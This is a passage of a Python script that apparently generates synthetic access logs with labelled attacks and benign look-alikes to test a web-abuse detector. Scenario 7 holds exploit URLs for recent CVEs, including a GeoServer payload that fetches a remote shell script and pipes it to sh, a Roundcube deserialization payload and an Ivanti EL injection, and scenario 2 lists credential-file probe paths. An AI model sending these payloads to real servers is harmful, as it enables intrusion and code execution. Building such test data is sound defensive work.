"""fresh-s13 attacks6: fifteen attack kinds as they are run today, not
covered by the earlier realistic sets (see the file names in
bench/detect/realistic/*/), each inside ordinary traffic of a different kind
of site, with the benign look-alikes around it listed as never-banned (and
every unlisted client never-banned too).

Written before looking at detector/, patterns/, rules/default.toml or the
Detection section of the README (session 13, role "fresh"): nothing here is
tuned to guardctl.
Run: python3 attacks.py [scenario-name ...]   (fixed seeds, byte-identical output)
"""
import datetime, os, sys, uuid, urllib.parse
from base import *

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.environ.get("OUT", os.path.join(HERE, "..", "attacks6"))
os.makedirs(OUT, exist_ok=True)
T0 = datetime.datetime(2026, 12, 6, 13, 0, 0)
SC = []


def scen(f):
    SC.append(f)
    return f


def hexid(r, n=40):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def q(s):
    return urllib.parse.quote(s, safe="")


def background(L, site, dur, n=30, office=True):
    """Ordinary traffic: browsers, both search crawlers, a monitor, an office NAT."""
    browsers(L, site, n, dur)
    crawlers(L, site, dur)
    monitor(L, dur)
    good = []
    if office:
        nat = L.ip("194.25.17")
        browsers(L, site, 25, dur, ips=[nat])
        good.append((nat, "office NAT, 25 people browsing"))
    return good


def dc_ip(L):
    """An address in a hosting provider's range (the attackers' usual source)."""
    r = L.rnd
    while True:
        a = "%s.%d.%d" % (r.choice(["45.148", "91.92", "103.145", "138.68", "146.190", "159.223", "165.22", "167.99", "185.220", "193.29", "194.180", "5.188"]), r.randint(0, 255), r.randint(2, 254))
        if a not in L.used:
            L.used.add(a)
            return a


# ---------------------------------------------------------------------------
# 1. Brute force against a SaaS token endpoint.
# Models: a password-guessing script (python-requests) POSTing
# /api/auth/token with a user list, ~1 per second for 20 minutes, every
# answer 401; a second, patient one (Go-http-client) at one per 3-4 s for 45
# minutes against /api/v1/sessions (401). Around them: the SPA's users log in
# (some with one typo: 401 then 200) and refresh tokens (200) every 15 min;
# an office NAT where 40 employees log in between 9 and 10 (3 typos).
# Realistic: token endpoints are the login of SPAs and apps; guessing tools
# replay the JSON request without a Referer or assets.
@scen
def api_token_endpoint_guessing():
    L = Log(T0, 701, "saas")
    s = app_site("app.example-tickets.io")
    r = L.rnd
    dur = 3000
    good = background(L, s, dur, 20, office=False)
    bad = []
    ip = dc_ip(L)
    bad.append((ip, "POST /api/auth/token at ~1/s for 20 min, all 401"))
    t = 200
    while t < 1400:
        L.add(t, ip, "POST", "/api/auth/token", 401, 64, "-", "python-requests/2.31.0")
        t += r.uniform(0.7, 1.4)
    ip = dc_ip(L)
    bad.append((ip, "POST /api/v1/sessions every 3-4 s for 45 min, all 401"))
    t = 100
    while t < 2800:
        L.add(t, ip, "POST", "/api/v1/sessions", 401, 70, "-", "Go-http-client/1.1")
        t += r.uniform(3, 4)
    office = L.ip("194.25.17")
    good.append((office, "office NAT, 40 employees logging in (3 typos)"))
    for k in range(40):
        ua = r.choice(UAS)
        t = r.uniform(0, 2400)
        page_view(L, s, t, office, ua, "/", "-", set())
        if k < 3:
            L.add(t + 8, office, "POST", "/api/auth/token", 401, 64, s.url("/"), ua)
            t += 10
        L.add(t + 9, office, "POST", "/api/auth/token", 200, 1400, s.url("/"), ua)
        for j in range(1, 4):
            if t + 9 + j * 900 < dur:
                L.add(t + 9 + j * 900, office, "POST", "/api/auth/token", 200, 1400, s.url("/dashboard"), ua)
                L.add(t + 9.3 + j * 900, office, "GET", "/api/v1/tickets?status=open", 200, 8000, s.url("/dashboard"), ua)
    for k in range(15):
        ip = L.ip()
        if k < 5:
            good.append((ip, "SPA user (some with one typo)"))
        ua = r.choice(UAS)
        t = r.uniform(0, 2500)
        page_view(L, s, t, ip, ua, "/", "-", set())
        if r.random() < 0.3:
            L.add(t + 7, ip, "POST", "/api/auth/token", 401, 64, s.url("/"), ua)
            t += 9
        L.add(t + 8, ip, "POST", "/api/auth/token", 200, 1400, s.url("/"), ua)
    return L, "SaaS token endpoints: a guesser POSTing /api/auth/token at ~1/s for 20 min (401) and one POSTing /api/v1/sessions every 3-4 s for 45 min (401); an office NAT of 40 logging in with 3 typos, 15 SPA users, 20 browsers", bad, good


# ---------------------------------------------------------------------------
# 2. One request for a secret, from a fresh address each time.
# Models: the secret-harvesting botnets of 2025-26 (Go/Python scanners, and
# some with a browser UA) sending exactly one request per address for a
# credential file, 404 mostly (one 403), each from an address never seen
# before. Benign one-request clients around them: password managers asking
# /.well-known/change-password, apps fetching /.well-known/assetlinks.json and
# apple-app-site-association, ads.txt crawlers, security.txt checkers.
# Realistic: paths from honeypot reports of 2025 (GreyNoise, SANS ISC);
# the scanners do spread single probes across many addresses.
@scen
def secret_oneshots_fresh_addresses():
    L = Log(T0, 702, "news")
    s = news_site()
    r = L.rnd
    dur = 1800
    good = background(L, s, dur, 40)
    bad = []
    probes = [("/.env", "curl/8.7.1"), ("/.env.production", "python-requests/2.32.3"), ("/.git/config", "Go-http-client/1.1"), ("/.aws/credentials", "Mozilla/5.0 (l9explore/1.2.2)"),
              ("/wp-config.php.bak", UAS[0]), ("/.git-credentials", "Go-http-client/1.1"), ("/.npmrc", "python-httpx/0.27.2"), ("/.docker/config.json", "curl/8.5.0"),
              ("/.ssh/id_rsa", "Mozilla/5.0 zgrab/0.x"), ("/.vscode/sftp.json", UAS[3]), ("/sftp-config.json", "Go-http-client/1.1"), ("/config/database.yml", "python-requests/2.31.0"),
              ("/.aws/config", "aiohttp/3.9.5"), ("/backup.sql", UAS[0]), ("/db.sql.gz", "Go-http-client/1.1"), ("/.kube/config", "curl/8.7.1"), ("/terraform.tfstate", "python-requests/2.32.3"),
              ("/.pypirc", "Go-http-client/2.0"), ("/.env.bak", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"), ("/config.json", "python-requests/2.28.1"),
              ("/.DS_Store", "Go-http-client/1.1"), ("/phpinfo.php", "Mozilla/5.0 (l9explore/1.2.2)"), ("/.svn/wc.db", "curl/7.88.1"), ("/app/etc/env.php", "Go-http-client/1.1"),
              ("/storage/logs/laravel.log", UAS[0]), ("/.htpasswd", "python-requests/2.32.3"), ("/secrets.yml", "Go-http-client/1.1"), ("/.circleci/config.yml", "curl/8.5.0")]
    for p, ua in probes:
        ip = dc_ip(L)
        st = 403 if p == "/.htpasswd" else 404
        L.add(r.uniform(10, dur - 10), ip, "GET", p, st, 150, "-", ua)
        bad.append((ip, "one request: %s" % p))
    for p, ua in [("/.well-known/change-password", UAS[2]), ("/.well-known/change-password", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"),
                  ("/.well-known/assetlinks.json", "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)"), ("/.well-known/apple-app-site-association", "AASA-Bot/1.0.0"),
                  ("/ads.txt", "Mozilla/5.0 (compatible; adstxt-crawler/1.0)"), ("/.well-known/security.txt", "securitytxt-checker/1.0"), ("/app-ads.txt", "Mozilla/5.0 (compatible; adstxt-crawler/1.0)"),
                  ("/.well-known/traffic-advice", "Chrome Privacy Preserving Prefetch Proxy"), ("/.well-known/nodeinfo", "Mastodon/4.3.1 (http.rb/5.2.0; +https://mastodon.social/)")]:
        ip = L.ip()
        L.add(r.uniform(10, dur - 10), ip, "GET", p, r.choice([200, 404]), 300, "-", ua)
        good.append((ip, "one benign request: %s" % p))
    return L, "Secret probes of 2025-26, one request per fresh address (28 credential/config files, 404/403); benign single requests for well-known files (change-password, assetlinks, AASA, ads.txt, security.txt, traffic-advice, nodeinfo); news readers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 3. Single-address floods of several sizes on a government portal.
# Models: HTTP GET floods from single rented servers: 12 req/s for 75 s, 40
# req/s for 45 s, 150 req/s for 20 s, 900 req/s for 15 s, each over the
# portal's real pages (and some assets), the server answering 503 once it
# saturates; a HEAD loop at 60/s for 30 s; a POST flood on the search form at
# 25/s for 40 s. Around: citizens, both crawlers, an office NAT and a busy
# municipal office NAT (60 clerks) using the portal all day.
# Realistic: DDoS-for-hire "L7 methods" (HTTP-GET, HEAD, POST) from single
# VPS are exactly these shapes; rates from 10 to 1,000 req/s per source.
@scen
def single_address_flood_ladder():
    L = Log(T0, 703, "gov")
    s = gov_site()
    r = L.rnd
    dur = 1800
    good = background(L, s, dur, 30)
    muni = L.ip()
    browsers(L, s, 60, dur, ips=[muni], pages_per=(5, 25), think=(4, 40))
    good.append((muni, "municipal office NAT, 60 clerks"))
    bad = []
    plan = [(12, 75, "GET", UAS[0]), (40, 45, "GET", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"),
            (150, 20, "GET", "python-aiohttp/3.9.1"), (900, 15, "GET", UAS[3]), (60, 30, "HEAD", "Go-http-client/1.1"), (25, 40, "POST", UAS[0])]
    start = 200
    for rate, secs, m, ua in plan:
        ip = dc_ip(L)
        bad.append((ip, "%s flood at %d req/s for %d s" % (m, rate, secs)))
        t = start
        n = int(rate * secs)
        for i in range(n):
            t += r.expovariate(rate)
            sat = t - start > min(10, secs / 3)
            if m == "POST":
                p, st = "/suche/", 503 if sat and r.random() < 0.6 else 200
            else:
                p = r.choice(s.pages + s.css + s.js)
                st = 503 if sat and r.random() < 0.5 else 200
            L.add(t, ip, m, p, st, 0 if m == "HEAD" or st == 503 else 20000, "-", ua)
        start += secs + 180
    return L, "Government portal: single-address floods at 12/s x75 s, 40/s x45 s, 150/s x20 s, 900/s x15 s (GET), 60/s x30 s (HEAD), 25/s x40 s (POST search), answered 503 once saturated; citizens, crawlers, office NAT, a municipal NAT of 60 clerks", bad, good


# ---------------------------------------------------------------------------
# 4. IPv6 rotation inside one /64: login guessing and a flood.
# Models: an attacker with a routed /64 (cheap at many VPS providers) who
# uses a new source address for every request (freebind/any-ip): POST /login
# on a Flarum forum, 401 each, one per 2 s for 30 minutes; a second /64 flooding
# the discussion pages at 40 req/s for 30 s, a new address per request.
# Around: a household /64 whose three devices browse and log in normally
# (privacy addresses), the forum's users, both crawlers.
# Realistic: IPv6 rotation is the standard rate-limit bypass; Flarum answers a
# failed /login with 401.
@scen
def ipv6_64_rotation_login_and_flood():
    L = Log(T0, 704, "forum")
    s = Site("community.example-synth.org", ["/", "/d/1201-patch-sharing", "/d/1188-midi-clock-issues", "/t/hardware", "/t/software", "/d/1213-firmware-2-4", "/u/moog_fan"], ["/assets/forum.css"], ["/assets/forum.js"], lambda p, r: ["/assets/avatars/%s.png" % hexid(r, 16) for _ in range(r.randint(1, 5))])
    r = L.rnd
    dur = 2400
    good = background(L, s, dur, 30)
    bad = []
    p1 = "2a01:4f8:c17:%x" % r.randint(0x1000, 0xffff)
    a = L.ip6(p1)
    bad.append((a, "IPv6 /64 rotation: POST /login, new address each, every 2 s for 30 min"))
    t = 300
    while t < 2100:
        L.add(t, L.ip6(p1), "POST", "/login", 401, 90, s.url("/"), UAS[0])
        t += r.uniform(1.5, 2.5)
    p2 = "2a0e:97c0:3e3:%x" % r.randint(0x1000, 0xffff)
    a = L.ip6(p2)
    bad.append((a, "IPv6 /64 rotation: GET flood at 40/s for 30 s, new address each"))
    t = 1200
    for i in range(1200):
        t += r.expovariate(40)
        L.add(t, L.ip6(p2), "GET", r.choice(s.pages[1:]) + "?page=%d" % r.randint(1, 30), r.choice([200, 200, 503]), 30000, "-", UAS[5])
    hh = "2003:e8:7f1d:%x" % r.randint(0x1000, 0xffff)
    first = None
    for d in range(3):
        ip = L.ip6(hh)
        first = first or ip
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 600)
        page_view(L, s, t, ip, ua, "/", "-", set())
        if d == 0:
            L.add(t + 10, ip, "POST", "/login", 401, 90, s.url("/"), ua)
            t += 8
        L.add(t + 12, ip, "POST", "/login", 200, 900, s.url("/"), ua)
        page_view(L, s, t + 15, ip, ua, "/d/1213-firmware-2-4", s.url("/"), set())
    good.append((first, "household /64, three devices with privacy addresses"))
    return L, "Flarum forum: login guessing from a rotating IPv6 /64 (new address per request, every 2 s for 30 min, 401) and a 40/s GET flood from another rotating /64 for 30 s; a household /64 with 3 devices (one typo), browsers, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 5. Stuffing behind a trusted proxy, with a forged X-Forwarded-For.
# Models: nginx behind HAProxy on the same host (trusted_proxies =
# 127.0.0.1); the attacker sends its own X-Forwarded-For (a random address, or
# 127.0.0.1) hoping to be judged as someone else, so the header reads
# "<forged>, <attacker>". Credential stuffing on Magento's REST customer
# token (401 on a miss) once per 1.5 s for 20 min; a second stuffer at 1 per
# 4 s claiming to be 127.0.0.1. Around: a corporate proxy that appends its
# internal addresses, shoppers, crawlers, HAProxy health checks.
# Realistic: forging X-Forwarded-For is in every stuffing tool's proxy
# options; Magento's /rest/V1/integration/customer/token is a known target.
@scen
def xff_forged_stuffing_behind_haproxy():
    L = Log(T0, 705, "shop")
    s = shop_site("www.example-gartenshop.de")
    r = L.rnd
    dur = 2400
    inner = Log(T0, 7050, "inner")
    browsers(inner, s, 40, dur)
    crawlers(inner, s, dur)
    corp = L.ip()
    browsers(inner, s, 40, dur, ips=[corp])
    good = [(corp, "corporate proxy, 40 employees (XFF: internal, proxy)"), ("127.0.0.1", "HAProxy itself (health checks)")]
    bad = []
    a1, a2 = dc_ip(L), dc_ip(L)
    bad.append((a1, "stuffing /rest/V1/integration/customer/token behind forged XFF, 1 per 1.5 s"))
    bad.append((a2, "stuffing with XFF claiming 127.0.0.1, 1 per 4 s"))
    for t, _, ip, m, p, st, sz, ref, ua, _x in inner.ev:
        xff = ip
        if ip == corp:
            xff = "10.%d.%d.%d, %s" % (r.randint(0, 40), r.randint(0, 255), r.randint(2, 254), corp)
        L.add(t, "127.0.0.1", m, p, st, sz, ref, ua, xff)
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    t = 400
    while t < 1600:
        forged = "%d.%d.%d.%d" % (r.randint(11, 223), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))
        L.add(t, "127.0.0.1", "POST", "/rest/V1/integration/customer/token", 200 if r.random() < 0.004 else 401, 120, "-", ua, "%s, %s" % (forged, a1))
        t += r.uniform(1.2, 1.8)
    t = 300
    while t < 2300:
        L.add(t, "127.0.0.1", "POST", "/rest/V1/integration/customer/token", 401, 120, "-", "okhttp/4.9.3", "127.0.0.1, %s" % a2)
        t += r.uniform(3.5, 4.5)
    t = 0.5
    while t < dur:
        L.add(t, "127.0.0.1", "GET", "/health_check.php", 200, 2, "-", "-")
        t += 2
    return L, "Shop behind a local HAProxy (trusted_proxies = 127.0.0.1): Magento REST token stuffing with a forged X-Forwarded-For (random, or 127.0.0.1) prepended by the attacker, 1 per 1.5 s and 1 per 4 s; a corporate proxy, shoppers, crawlers, health checks", bad, good, 'trusted_proxies = ["127.0.0.1"]\n'


# ---------------------------------------------------------------------------
# 6. Headless-browser search flood on a forum.
# Models: a layer-7 attack run with Puppeteer/headless Chrome from 5 cloud
# VMs, each driving 4 tabs that submit random searches (POST /search/search,
# 303, GET results) in a loop, ~8-12 requests/s per VM for 3 minutes, CSS/JS
# cached after the first load; the forum's search backend starts answering
# 503. Around: forum users (a few searching), crawlers, a university NAT.
# Realistic: headless browsers defeat JS challenges; search is the expensive
# endpoint attackers pick.
@scen
def headless_search_flood_forum():
    L = Log(T0, 706, "forum")
    s = forum_site()
    r = L.rnd
    dur = 1800
    good = background(L, s, dur, 40)
    uni = L.ip()
    browsers(L, s, 30, dur, ips=[uni])
    good.append((uni, "university NAT, 30 students on the forum"))
    bad = []
    hua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36"
    words = ["transfer", "derby", "stadium", "kit", "ticket", "coach", "youth", "injury", "league", "cup", "away", "goal", "keeper", "striker"]
    for v in range(5):
        ip = dc_ip(L)
        bad.append((ip, "headless Chrome search flood, ~10 req/s for 3 min"))
        page_view(L, s, 600 + v, ip, hua, "/search/", "-", set())
        t = 602 + v
        while t < 780 + v:
            sat = t > 640
            L.add(t, ip, "POST", "/search/search", 503 if sat and r.random() < 0.4 else 303, 0, s.url("/search/"), hua)
            sid = r.randint(100000, 999999)
            L.add(t + 0.05, ip, "GET", "/search/%d/?q=%s+%s&o=relevance" % (sid, r.choice(words), r.choice(words)), 503 if sat and r.random() < 0.4 else 200, 40000, s.url("/search/"), hua)
            t += r.expovariate(5)
    for k in range(10):
        ip = L.ip()
        if k < 4:
            good.append((ip, "forum user searching"))
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 200)
        for _ in range(r.randint(2, 6)):
            L.add(t, ip, "POST", "/search/search", 303, 0, s.url("/"), ua)
            L.add(t + 0.3, ip, "GET", "/search/%d/?q=%s&o=date" % (r.randint(100000, 999999), r.choice(words)), 200, 40000, s.url("/"), ua)
            t += r.uniform(10, 60)
    return L, "Forum: 5 cloud VMs running headless Chrome search loops (~10 req/s each for 3 min, POST /search/search + results, 503 once saturated); forum users searching, a university NAT, browsers, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 7. Exploit chains for 2024-25 CVEs against a university web server.
# Models: mass-exploitation chains as they appeared in honeypots: SharePoint
# ToolShell (CVE-2025-53770: start.aspx, ToolPane.aspx with the SignOut
# Referer, spinstall0.aspx), SAP NetWeaver (CVE-2025-31324: metadatauploader
# probe, upload, helper.jsp shell), Langflow (CVE-2025-3248), TeamCity
# (CVE-2024-27198 ;.jsp auth bypass), CrushFTP (CVE-2025-31161), Roundcube
# (CVE-2025-49113 serialized object in _from), GeoServer (CVE-2024-36401
# valueReference=exec(...)), Ivanti EPMM (CVE-2025-4427/4428 EL injection in
# format=), FortiWeb (CVE-2025-25257 then the .pth-triggering ml-draw.py).
# Each chain from its own address, 2-4 requests, on a server that runs none
# of these (404), except the GeoServer the university does run (200/400).
# Benign around: GIS students' QGIS using that GeoServer's WFS/WMS, visitors.
@scen
def exploit_chains_2025_university():
    L = Log(T0, 707, "uni")
    s = uni_site()
    r = L.rnd
    dur = 2400
    good = background(L, s, dur, 30)
    bad = []
    ffua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0"
    chains = [
        ("ToolShell CVE-2025-53770", ffua, [("GET", "/_layouts/15/start.aspx", 404, "-"), ("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", 404, "/_layouts/SignOut.aspx"), ("GET", "/_layouts/15/spinstall0.aspx", 404, "-")]),
        ("SAP CVE-2025-31324", "python-requests/2.32.3", [("GET", "/developmentserver/metadatauploader", 404, "-"), ("POST", "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", 404, "-"), ("GET", "/irj/helper.jsp?cmd=id", 404, "-")]),
        ("Langflow CVE-2025-3248", "python-httpx/0.27.0", [("GET", "/api/v1/version", 404, "-"), ("POST", "/api/v1/validate/code", 404, "-")]),
        ("TeamCity CVE-2024-27198", "Go-http-client/1.1", [("GET", "/hax?jsp=/app/rest/server;.jsp", 404, "-"), ("POST", "/hax?jsp=/app/rest/users;.jsp", 404, "-"), ("POST", "/hax?jsp=/app/rest/users/id:1/tokens/RPC2;.jsp", 404, "-")]),
        ("CrushFTP CVE-2025-31161", UAS[0], [("GET", "/WebInterface/login.html", 404, "-"), ("GET", "/WebInterface/function/?command=getUserList&c2f=%s" % hexid(r, 4), 404, "-"), ("POST", "/WebInterface/function/?command=setUserItem&c2f=%s" % hexid(r, 4), 404, "-")]),
        ("Roundcube CVE-2025-49113", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", [("GET", "/roundcube/?_task=login", 404, "-"), ("POST", "/roundcube/?_from=edit-%21%22%3Bi%3A0%3BO%3A16%3A%22Crypt_GPG_Engine%22%3A1%3A%7Bs%3A8%3A%22_gpgconf%22%3Bs%3A28%3A%22echo+aWQ%3D%7Cbase64+-d%7Csh%3B%23%22%3B%7Di%3A0%3Bb%3A0%3B%7D&_task=settings&_framed=1&_remote=1&_id=1&_uploadid=1&_unlock=1&_action=upload", 404, "-")]),
        ("GeoServer CVE-2024-36401", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36", [("GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27curl%20-s%20http://45.148.10.77/x.sh%7Csh%27)", 400, "-")]),
        ("Ivanti EPMM CVE-2025-4427/4428", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Safari/537.36", [("GET", "/mifs/rs/api/v2/featureusage?format=%24%7B%27%27.getClass().forName(%27java.lang.Runtime%27).getMethod(%27getRuntime%27).invoke(null).exec(%27id%27)%7D", 404, "-")]),
        ("FortiWeb CVE-2025-25257", "python-requests/2.32.4", [("GET", "/api/fabric/device/status", 404, "-"), ("GET", "/cgi-bin/ml-draw.py", 404, "-")]),
    ]
    for name, ua, steps in chains:
        ip = dc_ip(L)
        bad.append((ip, name))
        t = r.uniform(100, dur - 100)
        for m, p, st, ref in steps:
            L.add(t, ip, m, p, st, 150, ref if ref == "-" else s.url(ref), ua)
            t += r.uniform(0.3, 3)
    qua = "QGIS/34000/Windows 11 Version 2009"
    for k in range(6):
        ip = L.ip()
        good.append((ip, "GIS student using the GeoServer from QGIS"))
        t = r.uniform(0, dur - 600)
        L.add(t, ip, "GET", "/geoserver/ows?SERVICE=WFS&REQUEST=GetCapabilities&VERSION=2.0.0", 200, 40000, "-", qua)
        L.add(t + 1, ip, "GET", "/geoserver/wfs?SERVICE=WFS&VERSION=2.0.0&REQUEST=DescribeFeatureType&TYPENAMES=campus:gebaeude&TYPENAME=campus:gebaeude", 200, 3000, "-", qua)
        L.add(t + 2, ip, "GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=campus:gebaeude&valueReference=name", 200, 9000, "-", qua)
        for j in range(r.randint(20, 80)):
            L.add(t + 3 + j * r.uniform(0.1, 2), ip, "GET", "/geoserver/ows?SERVICE=WMS&VERSION=1.3.0&REQUEST=GetMap&FORMAT=image%%2Fpng&TRANSPARENT=TRUE&LAYERS=campus%%3Agebaeude&STYLES=&CRS=EPSG%%3A25832&WIDTH=1024&HEIGHT=768&BBOX=%d,%d,%d,%d" % (r.randint(400000, 401000), r.randint(5650000, 5651000), r.randint(402000, 403000), r.randint(5652000, 5653000)), 200, 60000, "-", qua)
    return L, "University web server: 9 exploit chains of 2024-25 (ToolShell, SAP metadatauploader, Langflow, TeamCity, CrushFTP, Roundcube, GeoServer, Ivanti EPMM, FortiWeb), each 1-3 requests from its own address; 6 GIS students using the GeoServer from QGIS; visitors, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 8. Archive scraping from a datacenter with a browser UA.
# Models: a content scraper (for an LLM dataset or a clone site) walking a
# news site's archive: /archiv/YYYY/MM/DD/ day pages and article IDs in
# sequence, no assets, no cookies, a current Chrome UA, ~6 requests/s for
# 25 minutes, 30 % 404 for IDs that do not exist. Around: readers, both
# crawlers (which also hit the archive, slower), an office NAT.
# Realistic: this is the dominant scraping shape news sites report in 2025;
# the UA is copied from a browser.
@scen
def archive_scraper_browser_ua():
    L = Log(T0, 708, "news")
    s = news_site()
    r = L.rnd
    dur = 2400
    good = background(L, s, dur, 40)
    bad = []
    ip = dc_ip(L)
    bad.append((ip, "archive scraper, 6 req/s for 25 min, no assets, 30 % 404"))
    t = 300
    aid = 2019010000
    day = datetime.date(2019, 1, 1)
    while t < 1800:
        if r.random() < 0.1:
            L.add(t, ip, "GET", "/archiv/%s/" % day.strftime("%Y/%m/%d"), 200, 30000, "-", UAS[0])
            day += datetime.timedelta(days=1)
        else:
            aid += 1
            L.add(t, ip, "GET", "/artikel/%d.html" % aid, 404 if r.random() < 0.3 else 200, 60000, "-", UAS[0])
        t += r.expovariate(6)
    return L, "News archive scraped from a datacenter address with a Chrome UA: sequential article IDs and day pages at ~6/s for 25 min, no assets, 30 % 404; readers, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 9. GET flood from a 40-address residential botnet on a game's web site.
# Models: a Mirai-variant botnet (hacked routers/DVRs) with 40 nodes each
# sending 10-20 GETs/s for 60 s to the game's news/patch-notes site: the
# homepage and random pages, a handful of fixed UA strings, no assets; the
# origin answers 503 after 15 s. Around: players reading patch notes after a
# release (the launcher opens the page: a burst of ordinary traffic), an
# esports venue NAT, crawlers.
# Realistic: botnet L7 floods spread over tens to thousands of nodes, each
# node at 10-50 req/s.
@scen
def botnet_get_flood_40_nodes():
    L = Log(T0, 709, "game")
    s = Site("www.example-game.com", ["/", "/news/", "/news/patch-5-21", "/news/season-12", "/esports/", "/support/", "/download/"], ["/_next/static/css/a81c.css"], ["/_next/static/chunks/main-71b2.js", "/_next/static/chunks/pages/news-19c0.js"], lambda p, r: ["/_next/image?url=%%2Fimages%%2F%s.jpg&w=%d&q=75" % (r.choice(["hero", "patch", "champ", "map"]), r.choice([640, 1080, 1920])) for _ in range(r.randint(2, 6))])
    r = L.rnd
    dur = 1800
    good = background(L, s, dur, 60)
    venue = L.ip()
    browsers(L, s, 40, dur, ips=[venue], pages_per=(1, 4))
    good.append((venue, "esports venue NAT, 40 players reading patch notes"))
    bad = []
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.5 Safari/605.1.15", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"]
    for k in range(40):
        ip = L.ip()
        bad.append((ip, "botnet node, %s" % "GET flood 10-20/s for 60 s"))
        rate = r.uniform(10, 20)
        ua = r.choice(uas)
        t = 900 + r.uniform(0, 5)
        end = t + 60
        while t < end:
            L.add(t, ip, "GET", r.choice(s.pages), 503 if t > 915 and r.random() < 0.6 else 200, 30000, "-", ua)
            t += r.expovariate(rate)
    return L, "Game web site: 40-node residential botnet GET flood (10-20/s per node for 60 s, 3 UAs, no assets, 503 after 15 s); 60 players, an esports venue NAT of 40, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 10. Slow distributed login guessing on a forum.
# Models: a guessing campaign spread over 30 residential proxy addresses,
# each sending 6-10 POST /login (Flarum, 401) spaced 4-8 minutes apart, with
# nothing else (no page loads), over 50 minutes. Around: forum users with
# occasional typos, a school NAT where a class logs in at once (4 typos).
# Realistic: low-and-slow spraying to stay under per-address lockouts is the
# norm for account-takeover crews.
@scen
def slow_distributed_forum_login():
    L = Log(T0, 710, "forum")
    s = Site("community.example-synth.org", ["/", "/d/1201-patch-sharing", "/d/1188-midi-clock-issues", "/t/hardware", "/t/software"], ["/assets/forum.css"], ["/assets/forum.js"], lambda p, r: [])
    r = L.rnd
    dur = 3300
    good = background(L, s, dur, 30)
    bad = []
    for k in range(30):
        ip = L.ip()
        bad.append((ip, "slow distributed guessing, 6-10 POST /login (401) 4-8 min apart"))
        t = r.uniform(0, 400)
        for _ in range(r.randint(6, 10)):
            L.add(t, ip, "POST", "/login", 401, 90, "https://community.example-synth.org/", UAS[r.randint(0, 3)])
            t += r.uniform(240, 480)
    school = L.ip()
    good.append((school, "school NAT, a class of 25 logging in (4 typos)"))
    for k in range(25):
        ua = r.choice(UAS)
        t = 1200 + r.uniform(0, 120)
        page_view(L, s, t, school, ua, "/", "-", set())
        if k < 4:
            L.add(t + 10, school, "POST", "/login", 401, 90, s.url("/"), ua)
            t += 12
        L.add(t + 11, school, "POST", "/login", 200, 900, s.url("/"), ua)
        page_view(L, s, t + 14, school, ua, r.choice(s.pages[1:]), s.url("/"), set())
    return L, "Flarum forum: 30 residential addresses each sending 6-10 refused logins 4-8 min apart and nothing else; a school NAT where 25 log in at once (4 typos), browsers, crawlers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 11. API key guessing on a SaaS API.
# Models: an attacker with a leaked customer ID guessing API keys: GET
# /api/v2/me with a new bearer token each time (401), 5 per second for 8
# minutes (Go-http-client); a second one validating guessed keys through the
# path (/api/v1/keys/ak_live_.../verify, 404) at 2/s. Around: a customer's
# broken integration whose key was revoked, calling its sync endpoint every
# minute with the dead key for the whole hour (401 each time), API users and
# the web app.
# Realistic: key enumeration through the identity endpoint is a well-known API
# abuse (OWASP API2); broken integrations with revoked keys are common.
@scen
def api_key_guessing():
    L = Log(T0, 711, "saas")
    s = app_site("app.example-mailer.io")
    r = L.rnd
    dur = 3600
    good = background(L, s, dur, 20)
    bad = []
    ip = dc_ip(L)
    bad.append((ip, "bearer key guessing on /api/v2/me, 5/s for 8 min"))
    t = 600
    while t < 1080:
        L.add(t, ip, "GET", "/api/v2/me", 401, 60, "-", "Go-http-client/2.0")
        t += r.expovariate(5)
    ip = dc_ip(L)
    bad.append((ip, "key guessing through the path, 2/s for 15 min (404)"))
    t = 1500
    while t < 2400:
        L.add(t, ip, "GET", "/api/v1/keys/ak_live_%s/verify" % "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789") for _ in range(24)), 404, 60, "-", "python-requests/2.32.3")
        t += r.expovariate(2)
    broken = L.ip()
